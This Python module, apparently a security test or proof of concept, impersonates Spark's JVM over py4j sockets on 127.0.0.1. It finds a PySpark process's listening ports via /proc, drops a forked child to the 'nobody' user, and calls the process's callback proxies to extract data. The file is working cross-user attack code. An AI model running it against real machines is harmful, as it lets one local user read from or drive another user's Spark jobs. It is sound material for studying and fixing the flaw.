"""What another user of the machine gets from a Python process that Spark's JVM calls: by sockets alone, as py4j's protocol has it.

``attack`` plays the JVM: it calls the first proxies of each port of 127.0.0.1, and when Python asks something of "Java" during a call, it
answers.
"""

from __future__ import annotations

import encodings.idna  # noqa: F401 - of sockets; nobody may not be able to read it later
import os
import pwd
import socket
import traceback
import warnings
from collections.abc import Callable, Iterable
from itertools import product
from pathlib import Path

CALLS = ("apply", "call", "__call__", "toString", "hashCode", "equals", "target", "__repr__")
PROXIES = ("p0", "p1", "p2", "p3", "t", "1")
LISTENS = "0A"
MOST = 1 << 20


def as_other_user(found: Callable[[], bytes]) -> bytes:
    """Return what a function finds in a child process that is nobody, or the same user where this process may not become another."""
    here, there = os.pipe()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # threads and fork, from Python 3.12
        child = os.fork()
    if child == 0:
        try:
            os.close(here)
            if os.getuid() == 0:
                nobody = pwd.getpwnam("nobody")
                os.setgroups([])
                os.setgid(nobody.pw_gid)
                os.setuid(nobody.pw_uid)
            try:
                data = b"done " + found()
            except BaseException:  # noqa: BLE001 - told to the parent, which fails
                data = traceback.format_exc().encode()
            with os.fdopen(there, "wb") as pipe:
                pipe.write(data)
        finally:
            os._exit(0)
    os.close(there)
    with os.fdopen(here, "rb") as pipe:
        data = pipe.read()
    os.waitpid(child, 0)
    assert data.startswith(b"done "), data.decode()
    return data.removeprefix(b"done ")


def listening(pid: int) -> set[int]:
    """Return the TCP ports that a process of this user listens at."""
    own = sockets(pid)
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            parts = line.split()
            if parts[3] == LISTENS and parts[9] in own:
                found.add(int(parts[1].rpartition(":")[2], 16))
    return found


def sockets(pid: int) -> set[str]:
    found = set()
    for entry in Path(f"/proc/{pid}/fd").iterdir():
        try:
            target = str(entry.readlink())
        except OSError:
            continue
        if target.startswith("socket:["):
            found.add(target[8:-1])
    return found


def attack(ports: Iterable[int]) -> bytes:
    """Return all that is answered at some ports; one that does not answer a call is left alone."""
    found = []
    for port in sorted(ports):
        for proxy, call in product(PROXIES, CALLS):
            answer = ask(port, proxy, call)
            if not answer:
                break
            found.append(answer)
    return b"\n".join(found)


def ask(port: int, proxy: str, call: str) -> bytes:
    got = b""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as connection, connection.makefile("rb") as stream:
            connection.settimeout(5)
            connection.sendall(f"c\n{proxy}\n{call}\nlo0\ne\n".encode())
            for _ in range(100):
                line = stream.readline()
                got += line
                if line not in (b"c\n", b"m\n", b"r\n"):
                    break
                while stream.readline().strip() not in (b"e", b""):
                    pass
                connection.sendall(b"!yi0\n" if line == b"c\n" else b"!yv\n")
    except OSError:
        pass
    return got


def play_jvm(port: int, proxies: Iterable[str], *, method: str = "call", ends_at: bytes | None = None) -> bytes:
    """Call a method with a batch of one's own, number 7, as that of a ``foreachBatch``, and be its JVM; return all that came.

    ``ends_at`` is a word of a question at which the connection is closed in the place of an answer, so that py4j makes another one.
    """
    return b"\n".join(_be_the_jvm(port, proxy, method, ends_at) for proxy in proxies)


def _be_the_jvm(port: int, proxy: str, method: str, ends_at: bytes | None) -> bytes:
    got = b""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as connection, connection.makefile("rb") as stream:
            connection.settimeout(10)
            connection.sendall(f"c\n{proxy}\n{method}\nro1\ni7\ne\n".encode())
            while line := stream.readline():
                got += line
                if line.startswith((b"!", b"A")) or len(got) > MOST:
                    break
                command = [line.strip()]
                while (part := stream.readline().strip()) not in (b"e", b""):
                    command.append(part)
                got += b" ".join(command) + b"\n"
                if ends_at is not None and ends_at in command:
                    break
                connection.sendall(_answer(command))
    except OSError:
        pass
    return got


def _answer(command: list[bytes]) -> bytes:
    """Return what a JVM may say: a name is a package or class, each member a method, and each method returns an object."""
    if command[0] == b"r" and command[-1] != b"MODULE$":
        if command[1] == b"m":
            return b"!ym\n"
        name = command[2]
        return b"!yp\n" if name.rpartition(b".")[2][:1].islower() else b"!yc" + name + b"\n"
    return b"!yv\n" if command[0] == b"m" else b"!yro9\n"
